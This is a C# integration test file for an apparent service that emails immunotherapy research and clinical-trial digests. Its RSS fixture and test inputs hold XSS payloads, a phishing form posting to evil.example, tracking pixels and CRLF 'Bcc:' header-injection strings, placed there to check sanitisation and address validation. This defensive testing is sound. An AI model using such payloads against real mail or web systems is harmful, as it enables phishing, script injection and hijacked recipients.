using ImmunoWatch.Delivery;
using ImmunoWatch.Digests;
using ImmunoWatch.IntegrationTests.Support;
using ImmunoWatch.Parsing;
using ImmunoWatch.Scheduling;
using ImmunoWatch.Sources;
using ImmunoWatch.Storage;
using ImmunoWatch.Subscribers;
using Microsoft.Extensions.Options;
using MimeKit;

namespace ImmunoWatch.IntegrationTests.Digests;

/// <summary>Digests composed from stored items and delivered through MailKit to a real SMTP server on loopback.</summary>
public sealed class DigestDeliveryTests
{
    private const string Feed = """
        <rss version="2.0"><channel><title>Immunotherapy journal</title>
        <item><guid>mel</guid><title>Adjuvant pembrolizumab in resected stage III melanoma</title><link>https://journal.example/mel</link><pubDate>{NOW}</pubDate>
          <description>A randomized phase 3 trial of PD-1 blockade after surgery for melanoma improved relapse-free survival.</description></item>
        <item><guid>lung</guid><title>Durvalumab after chemoradiotherapy in NSCLC</title><link>https://journal.example/lung</link><pubDate>{NOW}</pubDate>
          <description>Consolidation durvalumab in stage III non-small cell lung cancer.</description></item>
        <item><guid>trial</guid><title>CAR-T cells for relapsed lymphoma (NCT05000001)</title><link>https://clinicaltrials.gov/study/NCT05000001</link><pubDate>{NOW}</pubDate>
          <description>Phase 2 study. Recruiting - verified November 2026</description></item>
        <item><guid>tracker</guid><title>Cemiplimab in cutaneous squamous cell carcinoma</title><link>https://journal.example/cscc?utm_source=rss&amp;utm_medium=feed&amp;id=7</link><pubDate>{NOW}</pubDate>
          <description><![CDATA[<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form><div style="position:fixed;top:0;background:url(https://tracker.example/t.gif)">Overlay</div><img src="https://tracker.example/pixel.gif?utm_source=x" width="1" height="1"><a href="https://journal.example/full?utm_campaign=x&fbclid=y">full text</a> for skin cancer]]></description></item>
        <item><guid>basket</guid><title>Pembrolizumab plus a LAG-3 antibody in advanced solid tumors (NCT05000002)</title><link>https://clinicaltrials.gov/study/NCT05000002</link><pubDate>{NOW}</pubDate>
          <description>Phase 1 basket study for adults with advanced solid tumors. Recruiting - verified November 2026</description></item>
        <item><guid>old</guid><title>Nivolumab in melanoma: 2015 results</title><link>https://journal.example/old</link><pubDate>Mon, 05 Jan 2015 10:00:00 +0000</pubDate>
          <description>An old result that a newly added source brings along.</description></item>
        <item><guid>evil</guid><title>New trial &amp; update&#13;&#10;Bcc: victim@evil.example &lt;script&gt;alert(1)&lt;/script&gt; melanoma immunotherapy</title><link>javascript:alert(1)</link><pubDate>{NOW}</pubDate>
          <description>&lt;img src=x onerror=alert(1)&gt; melanoma checkpoint inhibitor text</description></item>
        </channel></rss>
        """;

    internal static Dictionary<string, string?> Settings(TestSmtpServer smtp) => new()
    {
        ["Smtp:Host"] = "127.0.0.1",
        ["Smtp:Port"] = smtp.Port.ToString(System.Globalization.CultureInfo.InvariantCulture),
        ["Smtp:Security"] = "None",
        ["Smtp:FromAddress"] = "digests@immunowatch.example",
        ["Digests:PublicBaseUrl"] = "https://immunowatch.example",
        ["Digests:TokenSecret"] = "test-secret-test-secret-test-secret-0123",
    };

    private static async Task<(Database Db, long SourceId)> SeedAsync(TestSmtpServer smtp)
    {
        var db = await Database.CreateAsync(Settings(smtp));
        await db.Get<DatabaseSetup>().RunAsync(CancellationToken.None);
        var sourceId = await db.Get<SourceStore>().AddAsync(new Source { Url = "https://journal.example/rss", Name = "Immunotherapy journal" }, CancellationToken.None);
        var claimed = (await db.Get<FetchStateStore>().ClaimAsync(DateTimeOffset.UtcNow, TimeSpan.FromMinutes(1), 1, false, sourceId, [], CancellationToken.None)).Single();
        var feed = Ingest.Parse(Feed.Replace("{NOW}", DateTimeOffset.UtcNow.AddHours(-2).ToString("r"), StringComparison.Ordinal), "https://journal.example/");
        await db.Get<FetchStateStore>().RecordSuccessAsync(claimed, Ingest.Poll(feed), CancellationToken.None);
        return (db, sourceId);
    }

    private static Task<long> SubscribeAsync(Database db, string email, string audience, params string[] follow) =>
        SubscribeAsync(db, email, audience, wantsTrials: true, follow);

    private static Task<long> SubscribeAsync(Database db, string email, string audience, bool wantsTrials, params string[] follow) =>
        db.Get<SubscriberStore>().AddAsync(new Subscriber { Email = email, Name = "Dr. Test", Audience = audience, Followed = follow, WantsTrials = wantsTrials, SendWeekday = 1, SendHour = 0 }, CancellationToken.None);

    [PostgresFact]
    public async Task Each_subscriber_gets_one_digest_of_what_they_follow_with_proper_parts_and_headers()
    {
        await using var smtp = await TestSmtpServer.StartAsync();
        var (db, _) = await SeedAsync(smtp);
        await using var _db = db;
        await SubscribeAsync(db, "skin@clinic.example", Audiences.Clinician, "SKIN");
        await SubscribeAsync(db, "lung@advocates.example", Audiences.Advocate, "NSCLC", "LYMPH");
        var delivery = db.Get<DigestDelivery>();

        var first = await delivery.RunAsync(null, CancellationToken.None);
        var second = await delivery.RunAsync(null, CancellationToken.None);

        Assert.Equal(2, first.Sent);
        Assert.Equal(0, second.Enqueued + second.Sent);
        Assert.Equal(2, smtp.Received.Count);

        var skin = Assert.Single(smtp.To("skin@clinic.example"));
        var lung = Assert.Single(smtp.To("lung@advocates.example"));
        var skinText = skin.TextBody;
        Assert.Contains("Adjuvant pembrolizumab in resected stage III melanoma", skinText, StringComparison.Ordinal);
        Assert.DoesNotContain("Durvalumab", skinText, StringComparison.Ordinal);
        Assert.DoesNotContain("2015 results", skinText, StringComparison.Ordinal); // published before the period: no backlog flood
        Assert.Contains("Durvalumab after chemoradiotherapy in NSCLC", lung.TextBody, StringComparison.Ordinal);
        Assert.DoesNotContain("resected stage III melanoma", lung.TextBody, StringComparison.Ordinal);
        Assert.Contains("Clinical trials", lung.TextBody, StringComparison.Ordinal);
        Assert.Contains("CAR-T cells for relapsed lymphoma", lung.TextBody, StringComparison.Ordinal);
        Assert.DoesNotContain("CAR-T cells for relapsed lymphoma", skinText, StringComparison.Ordinal);
        Assert.Contains("Immunotherapy, in plain words", lung.HtmlBody, StringComparison.Ordinal); // advocates get the full explainer
        Assert.Contains("Immunotherapy in brief", skin.HtmlBody, StringComparison.Ordinal);     // clinicians the condensed one
        Assert.Contains("not medical advice", skin.TextBody, StringComparison.Ordinal);

        foreach (var message in new[] { skin, lung })
        {
            Assert.Equal("digests@immunowatch.example", message.From.Mailboxes.Single().Address);
            Assert.Single(message.To.Mailboxes);
            Assert.Empty(message.Cc);
            Assert.Empty(message.Bcc);
            Assert.NotNull(message.MessageId);
            Assert.True(message.Date > DateTimeOffset.UtcNow.AddMinutes(-5));
            Assert.StartsWith("ImmunoWatch ", message.Subject, StringComparison.Ordinal);
            Assert.DoesNotContain("\n", message.Subject, StringComparison.Ordinal);
            var alternative = Assert.IsType<MultipartAlternative>(message.Body);
            Assert.Equal(["text/plain", "text/html"], alternative.Select(p => p.ContentType.MimeType));
            var unsubscribe = message.Headers[HeaderId.ListUnsubscribe];
            Assert.Matches(@"^<https://immunowatch\.example/u/\d+\.[A-Za-z0-9_-]{32}>$", unsubscribe);
            Assert.Equal("List-Unsubscribe=One-Click", message.Headers[HeaderId.ListUnsubscribePost]);
            Assert.DoesNotContain("<script", message.HtmlBody, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("onerror", message.HtmlBody, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("javascript:", message.HtmlBody, StringComparison.OrdinalIgnoreCase);
        }

        var rows = await db.Get<DigestOutboxStore>().ListAsync(CancellationToken.None);
        Assert.Equal(2, rows.Count);
        Assert.All(rows, r => Assert.Equal("sent", r.State));
        Assert.Equal(rows.Select(r => r.MessageId).Order(), smtp.Received.Select(m => m.MessageId).Order());
        Assert.All(await db.Get<SubscriberStore>().ListAsync(CancellationToken.None), s => Assert.NotNull(s.Watermark));
    }

    [PostgresFact]
    public async Task A_trial_open_to_any_cancer_reaches_everyone_who_wants_trials()
    {
        // Advocates following one cancer still hear of basket trials that name no organ.
        await using var smtp = await TestSmtpServer.StartAsync();
        var (db, _) = await SeedAsync(smtp);
        await using var _db = db;
        await SubscribeAsync(db, "lung@advocates.example", Audiences.Advocate, "NSCLC");
        await SubscribeAsync(db, "notrials@clinic.example", Audiences.Clinician, wantsTrials: false, "NSCLC");

        await db.Get<DigestDelivery>().RunAsync(null, CancellationToken.None);

        var withTrials = Assert.Single(smtp.To("lung@advocates.example")).TextBody ?? "";
        var trialsAt = withTrials.IndexOf("== Clinical trials ==", StringComparison.Ordinal);
        var basketAt = withTrials.IndexOf("in advanced solid tumors", StringComparison.Ordinal);
        Assert.True(trialsAt >= 0 && basketAt > trialsAt, withTrials);
        Assert.Contains("open to several cancer types", withTrials, StringComparison.Ordinal);
        Assert.DoesNotContain("advanced solid tumors", Assert.Single(smtp.To("notrials@clinic.example")).TextBody, StringComparison.Ordinal);
    }

    [PostgresFact]
    public async Task Feed_text_is_escaped_once_and_never_breaks_a_header()
    {
        await using var smtp = await TestSmtpServer.StartAsync();
        var (db, _) = await SeedAsync(smtp);
        await using var _db = db;
        await SubscribeAsync(db, "skin@clinic.example", Audiences.Clinician, "SKIN");

        await db.Get<DigestDelivery>().RunAsync(null, CancellationToken.None);

        var message = Assert.Single(smtp.Received);
        Assert.Contains("New trial &amp; update Bcc: victim@evil.example", message.HtmlBody, StringComparison.Ordinal); // encoded once, on one line
        Assert.DoesNotContain("&amp;amp;", message.HtmlBody, StringComparison.Ordinal);
        Assert.Contains("New trial & update Bcc: victim@evil.example", message.TextBody, StringComparison.Ordinal);
        Assert.DoesNotContain("&lt;", message.TextBody, StringComparison.Ordinal);
        Assert.DoesNotContain("<img", message.TextBody, StringComparison.Ordinal);
        Assert.Empty(message.Bcc);
        Assert.Equal("skin@clinic.example", message.To.Mailboxes.Single().Address);
    }

    [PostgresFact]
    public async Task Forms_styles_pixels_and_trackers_never_reach_an_email()
    {
        await using var smtp = await TestSmtpServer.StartAsync();
        var (db, _) = await SeedAsync(smtp);
        await using var _db = db;
        await SubscribeAsync(db, "skin@clinic.example", Audiences.Clinician, "SKIN");

        await db.Get<DigestDelivery>().RunAsync(null, CancellationToken.None);

        var message = Assert.Single(smtp.Received);
        Assert.Contains("Cemiplimab in cutaneous squamous cell carcinoma", message.HtmlBody, StringComparison.Ordinal);
        Assert.Contains("href=\"https://journal.example/cscc?id=7\"", message.HtmlBody, StringComparison.Ordinal);
        foreach (var banned in new[] { "<form", "<input", "<button", "position:fixed", "url(", "<img", "utm_", "fbclid", "tracker.example" })
        {
            Assert.DoesNotContain(banned, message.HtmlBody, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain(banned, message.TextBody, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Theory]
    [InlineData("a@b.c\r\nBcc: d@e.f")]
    [InlineData("a@b.c\nBcc: d@e.f")]
    [InlineData("a@b.c\0")]
    [InlineData("Eve <eve@example.org>")]
    [InlineData("a@b.c, d@e.f")]
    [InlineData("not-an-address")]
    public void Malformed_addresses_are_refused_when_subscribing(string email) =>
        Assert.StartsWith("email:", SubscriberValidator.EmailError(email), StringComparison.Ordinal);

    [Fact]
    public void Names_with_control_characters_are_refused() =>
        Assert.Contains(SubscriberValidator.Validate(new Subscriber { Email = "a@example.org", Name = "Eve\r\nBcc: x@evil.example" }), e => e.StartsWith("name:", StringComparison.Ordinal));

    [PostgresFact]
    public async Task A_permanent_rejection_fails_and_suppresses_and_a_transient_one_retries_without_duplicates()
    {
        await using var smtp = await TestSmtpServer.StartAsync();
        var (db, _) = await SeedAsync(smtp);
        await using var _db = db;
        var gone = await SubscribeAsync(db, "gone@clinic.example", Audiences.Clinician);
        await SubscribeAsync(db, "full@clinic.example", Audiences.Clinician);
        smtp.RejectRecipients["gone@clinic.example"] = 550;
        smtp.RejectRecipients["full@clinic.example"] = 452;
        var delivery = db.Get<DigestDelivery>();

        var first = await delivery.RunAsync(null, CancellationToken.None);

        Assert.Equal(1, first.Failed);
        Assert.Equal(1, first.Retrying);
        Assert.Empty(smtp.Received);
        Assert.Equal(SubscriberStates.Bounced, (await db.Get<SubscriberStore>().GetAsync(gone, CancellationToken.None))!.State);
        var rows = await db.Get<DigestOutboxStore>().ListAsync(CancellationToken.None);
        Assert.Contains(rows, r => r.State == "failed" && r.LastError!.Contains("550", StringComparison.Ordinal));
        var pending = Assert.Single(rows, r => r.State == "pending");
        Assert.Contains("452", pending.LastError, StringComparison.Ordinal);

        // The mailbox has room again and the retry is due: exactly one message, with the same Message-ID.
        smtp.RejectRecipients.Clear();
        await db.ExecuteAsync("UPDATE digest_outbox SET next_attempt_at = now() WHERE state = 'pending'");
        var retry = await delivery.RunAsync(null, CancellationToken.None);
        Assert.Equal(1, retry.Sent);
        var message = Assert.Single(smtp.Received);
        Assert.Equal("full@clinic.example", message.To.Mailboxes.Single().Address);
        Assert.Equal(pending.MessageId, message.MessageId);
        Assert.Empty(smtp.To("gone@clinic.example"));
    }

    [PostgresFact]
    public async Task An_unreachable_server_defers_the_run_and_marks_nothing_sent()
    {
        await using var smtp = await TestSmtpServer.StartAsync();
        var (db, _) = await SeedAsync(smtp);
        await using var _db = db;
        await SubscribeAsync(db, "skin@clinic.example", Audiences.Clinician);
        await smtp.DisposeAsync();

        var summary = await db.Get<DigestDelivery>().RunAsync(null, CancellationToken.None);

        Assert.Equal(1, summary.Retrying);
        Assert.Equal(0, summary.Sent);
        Assert.Equal("pending", Assert.Single(await db.Get<DigestOutboxStore>().ListAsync(CancellationToken.None)).State);
        Assert.Null((await db.Get<SubscriberStore>().FindAsync("skin@clinic.example", CancellationToken.None))!.Watermark);
    }

    [PostgresFact]
    public async Task Two_workers_sending_at_once_and_a_manual_rerun_send_one_digest_per_subscriber()
    {
        await using var smtp = await TestSmtpServer.StartAsync();
        var (db, _) = await SeedAsync(smtp);
        await using var _db = db;
        for (var i = 0; i < 12; i++)
        {
            await SubscribeAsync(db, $"reader{i}@clinic.example", i % 2 == 0 ? Audiences.Clinician : Audiences.Advocate);
        }

        // A second worker: its own services and connection pool on the same database.
        await using var other = TestServices.Create(new Dictionary<string, string?>(Settings(smtp)) { ["ConnectionStrings:ImmunoWatch"] = db.ConnectionString });
        var runs = await Task.WhenAll(
            db.Get<DigestDelivery>().RunAsync(null, CancellationToken.None),
            Microsoft.Extensions.DependencyInjection.ServiceProviderServiceExtensions.GetRequiredService<DigestDelivery>(other).RunAsync(null, CancellationToken.None));
        var rerun = await db.Get<DigestDelivery>().RunAsync("reader0@clinic.example", CancellationToken.None);

        Assert.Equal(12, runs.Sum(r => r.Sent));
        Assert.Equal(0, rerun.Sent);
        Assert.Equal(12, smtp.Received.Count);
        Assert.All(Enumerable.Range(0, 12), i => Assert.Single(smtp.To($"reader{i}@clinic.example")));
        Assert.Equal(12, await db.ScalarAsync<long>("SELECT count(DISTINCT (subscriber_id, period_key)) FROM digest_outbox"));
    }

    [PostgresFact]
    public async Task After_three_missed_periods_one_catch_up_digest_covers_them_all()
    {
        // T34, the digest half: the worker was down across three weekly send times. The next run
        // sends one digest (never three) and it starts where the last delivered one ended, so
        // nothing published in the gap is dropped.
        await using var smtp = await TestSmtpServer.StartAsync();
        var (db, _) = await SeedAsync(smtp);
        await using var _db = db;
        var id = await SubscribeAsync(db, "skin@clinic.example", Audiences.Clinician, "SKIN");
        var lastDelivered = DateTimeOffset.UtcNow.AddDays(-22);
        await db.ExecuteAsync("UPDATE subscribers SET watermark = @lastDelivered WHERE id = @id", new { lastDelivered, id });
        var delivery = db.Get<DigestDelivery>();

        var first = await delivery.RunAsync(null, CancellationToken.None);
        var second = await delivery.RunAsync(null, CancellationToken.None);

        Assert.Equal(1, first.Sent);
        Assert.Equal(0, second.Enqueued + second.Sent);
        var message = Assert.Single(smtp.Received);
        Assert.Contains("Adjuvant pembrolizumab in resected stage III melanoma", message.TextBody, StringComparison.Ordinal);
        var row = Assert.Single(await db.Get<DigestOutboxStore>().ListAsync(CancellationToken.None));
        Assert.Equal(lastDelivered.ToUnixTimeMilliseconds(), row.PeriodStart.ToUnixTimeMilliseconds(), tolerance: 1);
    }

    [PostgresFact]
    public async Task Nothing_new_means_no_email()
    {
        await using var smtp = await TestSmtpServer.StartAsync();
        var (db, _) = await SeedAsync(smtp);
        await using var _db = db;
        // Follows kidney cancer and no trials (a trial open to any cancer would otherwise match).
        await SubscribeAsync(db, "kidney@clinic.example", Audiences.Clinician, wantsTrials: false, "KIDNEY");

        var summary = await db.Get<DigestDelivery>().RunAsync(null, CancellationToken.None);

        Assert.Equal(1, summary.Empty);
        Assert.Empty(smtp.Received);
        Assert.Equal("empty", Assert.Single(await db.Get<DigestOutboxStore>().ListAsync(CancellationToken.None)).State);
    }

    [Fact]
    public void Tokens_are_unguessable_and_tampering_is_detected()
    {
        var tokens = new SubscriberTokens(Options.Create(new DigestOptions { TokenSecret = "test-secret-test-secret-test-secret-0123" }));
        var token = tokens.Create(SubscriberTokens.Unsubscribe, 42);
        Assert.Equal(42, tokens.Verify(SubscriberTokens.Unsubscribe, token));
        Assert.Null(tokens.Verify(SubscriberTokens.Preferences, token));
        Assert.Null(tokens.Verify(SubscriberTokens.Unsubscribe, token.Replace("42.", "43.", StringComparison.Ordinal)));
        Assert.Null(tokens.Verify(SubscriberTokens.Unsubscribe, token[..^1] + (token[^1] == 'A' ? 'B' : 'A')));
        Assert.Null(tokens.Verify(SubscriberTokens.Unsubscribe, "garbage"));
        Assert.True(token.Split('.')[1].Length >= 32, "at least 192 bits of MAC");
    }
}
